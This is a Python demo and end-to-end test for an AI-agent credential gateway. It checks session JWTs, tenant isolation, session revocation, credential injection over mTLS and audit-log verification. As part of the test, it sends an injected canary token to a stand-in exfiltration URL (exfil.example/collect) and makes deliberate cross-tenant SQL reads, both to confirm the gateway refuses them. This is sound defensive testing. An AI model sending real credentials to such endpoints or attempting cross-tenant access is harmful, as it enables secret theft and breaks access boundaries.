"""``clawql-secrets demo``: the whole promise, step by step, on the running stack.

Each step checks what it shows and raises ``DemoFailure`` naming the step when
the promise does not hold, so the demo doubles as an end-to-end test. What an
agent saw is printed as the gateway returned it; what existed meanwhile is read
by the operator from PostgreSQL, the demo's HTTPS destination and the audit
log. No credential is printed: the agent never had one. The token injected into
the HTTP call is a random canary made for this run; the operator stores it as
``secrets-writer`` and the destination is told only its SHA-256.
"""

from __future__ import annotations

import base64
import contextlib
import datetime as dt
import json
import re
import secrets
import ssl
import string
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import psycopg

from clawql_secrets.audit import verify
from clawql_secrets.audit.key_transition import load_keyset
from clawql_secrets.audit.query import QueryFilter, prometheus_heads, query
from clawql_secrets.audit.store import LocalWormStore
from clawql_secrets.cluster import stack
from clawql_secrets.cluster.layout import StackSettings
from clawql_secrets.cluster.supervisor import SHIPPER
from clawql_secrets.demo import target
from clawql_secrets.errors import ClawQLError
from clawql_secrets.gateway import session_issuer
from clawql_secrets.gateway.localstack import AGENT_URI_SAN, HTTP_ROLE
from clawql_secrets.issuer import LocalIssuer
from clawql_secrets.provision import agent_secrets
from clawql_secrets.witness import localstack as witness_localstack

Say = Callable[[str, str, Any], None]
# The HTTP part: examples/clawql.yaml's role integrator and its secret.
HTTP_TENANT, HTTP_AGENT, HTTP_SECRET = "acme", "bot-i", "github_token"
# Where an agent might try to send the injected token instead (reserved TLD: the
# gateway refuses it before any lookup or connection).
EXFIL_URL = "https://exfil.example/collect"


class DemoFailure(ClawQLError):
    """A step of the demo found the promise broken."""


@dataclass
class Step:
    name: str
    ok: bool
    shown: Any = None


@dataclass
class Demo:
    settings: StackSettings
    say: Say
    steps: list[Step] = field(default_factory=list)

    def step(self, name: str, ok: bool, shown: Any = None) -> None:
        self.steps.append(Step(name, ok, shown))
        self.say(name, "ok" if ok else "FAILED", shown)
        if not ok:
            raise DemoFailure(f"demo step failed: {name}")

    @contextlib.contextmanager
    def guard(self, name: str) -> Iterator[None]:
        """An error inside the block fails step ``name`` (never a raw traceback)."""
        try:
            yield
        except DemoFailure:
            raise
        except ClawQLError as exc:
            self.step(name, False, {"error": exc.diagnostics()})
        except (httpx.HTTPError, ValueError, KeyError, TypeError) as exc:
            # Type only: a message might quote a response.
            self.step(name, False, {"error": type(exc).__name__})


def _straight_to_openbao(settings: StackSettings, jwt: str) -> dict[str, int]:
    """What an agent holding its session JWT gets from OpenBao's agents mount: each
    login path and role answers with its HTTP status (nothing but 4xx is a pass)."""
    out: dict[str, int] = {}
    ca = ssl.create_default_context(cafile=str(settings.node_ca_dir / "ca.pem"))
    with httpx.Client(verify=ca, timeout=10.0, trust_env=False) as bao:
        for path, role in (
            ("auth/agents/login", "analyst"),
            ("auth/agents/login", "analyst.session"),
            ("auth/agents/cel/login", "analyst"),
            ("auth/workload/login", "gateway"),
        ):
            resp = bao.post(f"{settings.api_addr('n1')}/v1/{path}", json={"role": role, "jwt": jwt})
            out[f"{path} role={role}"] = resp.status_code
    return out


def _sid(jwt: str) -> str:
    payload = jwt.split(".")[1]
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    return str(claims["sid"])


def _roles(prefix: str = "v-") -> set[str]:
    with psycopg.connect(host="127.0.0.1", user="postgres", dbname="postgres") as conn:
        rows = conn.execute(
            "SELECT rolname FROM pg_roles WHERE rolname LIKE %s", (prefix + "%",)
        ).fetchall()
    return {str(r[0]) for r in rows}


def _wait_gone(role: str, timeout: float = 2.0) -> float:
    t0 = time.monotonic()
    while time.monotonic() - t0 < timeout:
        if role not in _roles(""):
            return time.monotonic() - t0
        time.sleep(0.02)
    return -1.0


def _canary() -> str:
    """A token-shaped random value (GitHub-like), made at run time only."""
    alphabet = string.ascii_letters + string.digits
    return "ghp_" + "".join(secrets.choice(alphabet) for _ in range(36))


def _error_code(doc: Any) -> Any:
    return ((doc or {}).get("error") or {}).get("code") if isinstance(doc, dict) else None


def _http_steps(demo: Demo, http: httpx.Client, issuer: LocalIssuer, canary: str) -> None:
    """An HTTP call with an injected credential and a 5-minute mTLS cert, and its end."""
    s = demo.settings
    ref = agent_secrets.AgentSecretRef(HTTP_TENANT, HTTP_AGENT, HTTP_SECRET)
    who = f"{HTTP_TENANT}/{HTTP_AGENT}"
    san = AGENT_URI_SAN.format(tenant=HTTP_TENANT, agent=HTTP_AGENT)
    leaks = (canary, base64.b64encode(canary.encode()).decode())

    def clean(text: str) -> bool:
        return not any(v in text for v in leaks)

    def shown(text: str) -> Any:
        return json.loads(text) if clean(text) else "[withheld: it held the injected value]"

    # a. The operator stores the agent's token; nobody can read it back but the agent.
    name = f"the operator stores {ref.describe()} as secrets-writer (value never shown)"
    with demo.guard(name):
        version = agent_secrets.put_on_stack(s, ref, canary)
    demo.step(name, version >= 1, {"path": ref.path, "version": version})

    jwt = session_issuer.issue(
        issuer,
        tenant=HTTP_TENANT,
        agent=HTTP_AGENT,
        role=HTTP_ROLE,
        ttl=600,
        audience=s.gateway_addr,
    )
    inject = {"secret": HTTP_SECRET, "header": "Authorization", "format": "Bearer {value}"}

    def args(url: str) -> dict[str, Any]:
        return {"method": "GET", "url": url, "client_cert": True, "inject": inject}

    def call(url: str) -> tuple[int, str]:
        resp = http.post(
            "/v1/tools/http.request", headers={"Authorization": f"Bearer {jwt}"}, json=args(url)
        )
        return resp.status_code, resp.text

    # b. The call: a cert issued for this agent, the token put in a header, the
    #    agent handed the destination's answer only.
    name = f"{who} calls an mTLS service through the gateway: the agent saw only the result"
    # One guard: a target that cannot start fails this step, as does a broken answer.
    with demo.guard(name), target.running(s, target.token_digest(canary)) as dest:
        status, text = call(f"{dest.url}/hello")
        result = json.loads(text).get("result") or {}
        body = result.get("body")
        utf8 = result.get("body_encoding") == "utf-8" and isinstance(body, str)
        answer = json.loads(body) if utf8 and body else None
        demo.step(
            name,
            status == 200
            and result.get("status") == 200
            and answer == {"hello": san, "authorized": True}
            and clean(text),
            {"agent asked": args(f"{dest.url}/hello"), "agent saw": shown(text)},
        )

        # c. What existed meanwhile, from the destination's side.
        name = (
            f"meanwhile the destination saw a client cert for {san} "
            "valid for 300 s and the right token"
        )
        seen = dest.seen
        first = seen[0] if seen else None
        life = (first.cert.not_after - first.at).total_seconds() if first else -1.0
        demo.step(
            name,
            first is not None
            and len(seen) == 1
            and first.cert.uri_sans == (san,)
            and first.authorized
            # Issued for 5 minutes at the call; OpenBao backdates not_before by 30 s.
            and 290 <= life <= 300
            and first.cert.lifetime_seconds <= 330,
            {"destination saw": first.to_json() if first else None},
        )

        # d. The same credentials toward anywhere else: refused before any connection.
        name = "the same call to a destination off the allow-list is refused (nothing sent)"
        with demo.guard(name):
            status, text = call(EXFIL_URL)
            code = _error_code(json.loads(text))
        demo.step(
            name,
            status == 403
            and code == "destination_not_allowed"
            and clean(text)
            and len(dest.seen) == 1,
            {"agent asked": args(EXFIL_URL), "agent saw": shown(text)},
        )

        # e. Session end: the JWT is worthless, the destination hears nothing more.
        name = f"DELETE the {who} session: its next call is refused"
        with demo.guard(name):
            ended = http.delete(
                f"/v1/sessions/{_sid(jwt)}", headers={"Authorization": f"Bearer {jwt}"}
            )
            ended_doc = ended.json()
            status, text = call(f"{dest.url}/hello")
            code = _error_code(json.loads(text))
        demo.step(
            name,
            ended.status_code == 200
            and status == 401
            and code in {"session_ended", "session_revoked"}
            and clean(text)
            and len(dest.seen) == 1,
            {
                "ended": ended_doc,
                "agent saw": shown(text),
                "requests the destination got": len(dest.seen),
            },
        )


def _shipper_step(demo: Demo) -> None:
    """Every stream ``ok`` as ``clawql-secrets status`` reads it (waits up to two intervals
    for one that is catching up after the calls above)."""
    s = demo.settings
    name = "audit shipper: every stream ok (state, lag and last error as `status` shows them)"
    streams: dict[str, Any] = {}
    with demo.guard(name):
        deadline = time.monotonic() + 2 * stack.LOCAL_CHECKPOINT_SECONDS + 5
        while True:
            alive = stack.child_pid(s, SHIPPER) is not None
            streams = stack.audit_streams(s, shipper_alive=alive)
            if all(v["state"] == "ok" for v in streams.values()) or time.monotonic() > deadline:
                break
            time.sleep(0.5)
    shown = {
        stream: {k: v.get(k) for k in ("state", "note", "lag_entries", "lag_seconds", "last_error")}
        for stream, v in streams.items()
    }
    demo.step(name, bool(streams) and all(v["state"] == "ok" for v in streams.values()), shown)


def _verify_step(demo: Demo) -> None:
    """``audit verify --prometheus`` as an operator runs it, against the stack's Prometheus."""
    s = demo.settings
    store, pubkey, url = s.audit_dir / "store", s.audit_dir / "verifier.txt", s.prometheus_addr
    witness = str(witness_localstack.witness_key(s))
    argv = ["audit", "verify", "--store", str(store), "--pubkey-file", str(pubkey)]
    argv += ["--prometheus", url, "--witness-key", witness, "--witness-url", s.witness_addr]
    argv += ["--json"]
    name = (
        "audit verify --prometheus --witness-key: every stream recomputed, every checkpoint "
        "signed and consistent, every tree head Prometheus recorded fits the log, and the "
        "witness cosigned each stream's newest checkpoint"
    )
    shown: dict[str, Any] = {"command": " ".join(["clawql-secrets", *argv[:-1]])}
    ok = False
    with demo.guard(name):
        # Prometheus scrapes every 2 s: wait (bounded) until it holds a checkpoint record,
        # and until the witness has cosigned the newest checkpoint of every stream.
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            with contextlib.suppress(ClawQLError):
                streams = stack.witness_health(s, {})["streams"].values()
                if prometheus_heads(url) and all(
                    v["cosigned"] == v["checkpoint"] > 0 for v in streams
                ):
                    break
            time.sleep(0.5)
        done = subprocess.run(
            [sys.executable, "-m", "clawql_secrets", *argv],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        counted = re.search(r"checking (\d+) tree heads recorded by Prometheus", done.stderr)
        heads = int(counted.group(1)) if counted else 0
        shown["tree heads recorded by Prometheus, checked"] = heads
        if done.returncode == 0:
            result = json.loads(done.stdout)
            shown["streams"] = result["streams"]
            ok = result["ok"] is True and heads > 0
        else:  # the CLI's diagnostics (names and indexes, never a secret)
            shown["error"] = done.stderr.strip().splitlines()[-3:]
    demo.step(name, ok, shown)


def run(settings: StackSettings, say: Say, *, canary: str | None = None) -> list[Step]:
    """Every step in order; ``canary`` is the token injected over HTTP (random by
    default: tests pass their own to search every output for it)."""
    demo = Demo(settings, say)
    started = dt.datetime.now(dt.UTC) - dt.timedelta(seconds=2)
    issuer = session_issuer.load_issuer(settings.data_dir)
    url = settings.gateway_addr
    with httpx.Client(base_url=url, timeout=15.0, trust_env=False) as http:

        def call(jwt: str, sql: str, db: str = "pg_main") -> dict[str, Any]:
            resp = http.post(
                "/v1/tools/sql.query",
                headers={"Authorization": f"Bearer {jwt}"},
                json={"database": db, "sql": sql},
            )
            body: dict[str, Any] = resp.json()
            return body

        # 1. Two agents in two tenants get session JWTs from the platform's issuer.
        acme = session_issuer.issue(
            issuer, tenant="acme", agent="bot-a", role="analyst", ttl=600, audience=url
        )
        globex = session_issuer.issue(
            issuer, tenant="globex", agent="bot-g", role="analyst", ttl=600, audience=url
        )
        demo.step("sessions issued for acme/bot-a and globex/bot-g", True)

        # 1b. The agent's bearer opens the gateway only: OpenBao refuses it (ADR 0010).
        name = "acme/bot-a's session JWT sent straight to OpenBao is refused"
        with demo.guard(name):
            answers = _straight_to_openbao(settings, acme)
            demo.step(name, all(400 <= a < 500 for a in answers.values()), answers)

        # 2. SQL on the tenant's own data: the agent sees rows, never a credential.
        before = _roles()
        seen = call(acme, "SELECT k, v FROM acme.facts")
        rows = (seen.get("result") or {}).get("rows")
        demo.step(
            "acme/bot-a reads its tenant's table through the gateway",
            rows == [["tenant", "acme"]],
            {"agent saw": seen},
        )
        created = sorted(_roles() - before)
        demo.step(
            "meanwhile a dynamic PostgreSQL user exists for that session only",
            len(created) == 1,
            {"pg_roles": created},
        )
        again = call(acme, "SELECT count(*) FROM acme.facts")
        demo.step(
            "a second call reuses the session's user (no new role)",
            "result" in again and sorted(_roles() - before) == created,
        )

        # 3. Cross-tenant: refused, by the database grants and OpenBao's policies.
        denied = call(acme, "SELECT v FROM globex.facts")
        code = _error_code(denied)
        demo.step(
            "acme/bot-a reading globex's table is refused",
            code in {"sql_permission_denied", "anomaly_revoked"},
            {"agent saw": denied},
        )
        maria = call(globex, "SELECT k, v FROM facts", db="maria_main")
        demo.step(
            "globex/bot-g reads its own MariaDB database",
            (maria.get("result") or {}).get("rows") == [["tenant", "globex"]],
            {"agent saw": maria},
        )

        # 4. Session end: every credential of the session dies.
        resp = http.delete(
            f"/v1/sessions/{_sid(acme)}", headers={"Authorization": f"Bearer {acme}"}
        )
        gone_after = _wait_gone(created[0]) if created else -1.0
        demo.step(
            "DELETE the acme session: its PostgreSQL user is dropped",
            resp.status_code == 200 and gone_after >= 0,
            {"ended": resp.json(), "role gone after s": round(gone_after, 3)},
        )
        after = call(acme, "SELECT 1")
        demo.step(
            "the same JWT is refused afterwards",
            _error_code(after) in {"session_ended", "session_revoked"},
            {"agent saw": after},
        )

        # 5. Anomaly: a burst of denied calls revokes the globex session.
        before_g = _roles()
        call(globex, "SELECT v FROM globex.facts")
        g_roles = sorted(_roles() - before_g)
        last: dict[str, Any] = {}
        for _ in range(10):
            last = call(globex, "SELECT v FROM acme.facts")
            if _error_code(last) != "sql_permission_denied":
                break
        follow = call(globex, "SELECT v FROM globex.facts")
        revoked = _error_code(follow) in {
            "session_ended",
            "session_revoked",
            "anomaly_revoked",
        }
        demo.step(
            "a burst of denied calls revokes the globex session (anomaly)",
            revoked,
            {"last denied": last, "next call": follow},
        )
        demo.step(
            "the revoked session's PostgreSQL user is gone",
            all(_wait_gone(r) >= 0 for r in g_roles),
            {"pg_roles dropped": g_roles},
        )

        # 6. HTTP: an injected credential and a 5-minute mTLS client cert.
        _http_steps(demo, http, issuer, canary or _canary())

    # 7. The audit log: the shipper ships every stream; verify everything, also against
    #    the tree heads Prometheus recorded; then ask "did acme/bot-a touch its creds?"
    verifier_file = settings.audit_dir / "verifier.txt"
    store = LocalWormStore(settings.audit_dir / "store")
    key = load_keyset(verifier_file)
    deadline = time.monotonic() + 90
    matches: list[Any] = []
    while time.monotonic() < deadline:
        try:
            matches = query(store, key, QueryFilter(agent="bot-a", tenant="acme", since=started))
        except ClawQLError:
            matches = []
        if any("database/creds/" in json.dumps(m.to_json()) for m in matches):
            break
        time.sleep(1.0)
    _shipper_step(demo)
    _verify_step(demo)
    cred_reads = [m.to_json() for m in matches if "database/creds/" in json.dumps(m.to_json())]
    demo.step(
        "audit query: acme/bot-a's credential requests, each with an inclusion proof",
        bool(cred_reads),
        [{k: m[k] for k in m if k != "proof"} for m in cred_reads[:2]],
    )
    for m in matches[:3]:
        verify.check_inclusion(m.proof, key)
    return demo.steps
